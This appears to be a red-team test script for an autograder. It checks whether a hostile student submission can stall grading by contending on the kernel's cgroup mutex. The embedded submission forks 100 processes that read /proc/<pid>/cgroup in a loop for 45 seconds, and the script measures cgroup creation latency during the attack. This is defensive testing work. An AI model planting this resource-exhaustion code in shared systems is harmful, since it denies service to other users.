"""a06: reading /proc/<pid>/cgroup takes the kernel's global cgroup_mutex (proc_cgroup_show). 100 processes of one
kernel read it in a loop for 45 s; the grader needs that mutex to make and remove each submission's cgroups (mkdir /
rmdir in cgroupfs, v1: memory, cpu, pids, blkio), e.g. for the next student's kernel started early. Measured: the
host's mkdir+rmdir latency of a cgroup during the attack against before, and the controls' grading times."""
import sys, threading, statistics; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from common import *
CODE = r'''
import os, time
def _hammer(seconds):
    end = time.time() + seconds
    paths = [f"/proc/{p}/cgroup" for p in os.listdir("/proc") if p.isdigit()]
    n = 0
    while time.time() < end:
        for p in paths:
            try:
                fd = os.open(p, os.O_RDONLY); os.read(fd, 65536); os.close(fd); n += 1
            except OSError: pass
    os._exit(0)
for i in range(100):
    if os.fork() == 0:
        _hammer(45)
print("hammering")
'''
def probe(stop, out, tag):
    base = "/sys/fs/cgroup/memory/a06probe"
    lat = []
    while not stop.is_set():
        t = time.perf_counter()
        os.mkdir(base); os.rmdir(base)
        lat.append(time.perf_counter() - t)
        time.sleep(0.02)
    out[tag] = lat
def summary(lat):
    return f"n={len(lat)} median={statistics.median(lat)*1000:.2f} ms p99={sorted(lat)[int(len(lat)*.99)]*1000:.2f} ms max={max(lat)*1000:.1f} ms"
if __name__ == "__main__":
    out = {}
    stop = threading.Event(); th = threading.Thread(target=probe, args=(stop, out, "idle")); th.start(); time.sleep(10); stop.set(); th.join()
    print("IDLE mkdir+rmdir:", summary(out["idle"]))
    for tag, code in (("control", ""), ("attack", CODE)):
        c = make_course("a06" + tag)
        hand_in(c, "aaron", honest())
        hand_in(c, "mallory", hostile(append={"training_memory": code}) if code else honest())
        hand_in(c, "zoe", honest())
        stop = threading.Event(); th = threading.Thread(target=probe, args=(stop, out, tag)); th.start()
        grade(c)
        stop.set(); th.join()
        print(tag.upper(), "mkdir+rmdir during grading:", summary(out[tag]))
        scores(c)
